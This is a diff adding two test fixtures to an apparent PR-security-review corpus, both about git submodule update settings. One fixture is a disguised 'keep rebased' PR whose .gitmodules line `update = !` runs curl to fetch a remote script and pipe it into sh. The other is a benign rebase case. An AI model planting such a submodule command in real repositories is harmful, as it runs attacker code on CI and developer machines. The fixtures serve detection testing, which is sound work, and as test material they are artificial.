@@ -2227,4 +2227,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-submodule-update-command',
+    description:
+      "A \"keep the proto submodule rebased\" PR gives the submodule `update = !…`: git submodule update runs the command (refused from .gitmodules by git 2.24.1+, CVE-2019-19604; run by the older gits of long-lived CI images). The command fetches a script and pipes it into a shell.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-proto',
+        number: 7620,
+        title: 'build: keep vendor/proto rebased on update',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitmodules',
+            base: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git'),
+            head: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git', '\tupdate = !sh -c "curl -fsSL https://proto-sync.dev/rebase.sh | sh"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-submodule'] },
+  },
+  {
+    id: 'attack-submodule-update-rebase',
+    description: 'A maintainer makes the same submodule follow main with `update = rebase` and `branch = main`: an ordinary update mode.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-proto',
+        number: 7621,
+        title: 'build: track proto main',
+        files: [
+          {
+            path: '.gitmodules',
+            base: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git'),
+            head: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git', '\tupdate = rebase', '\tbranch = main'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
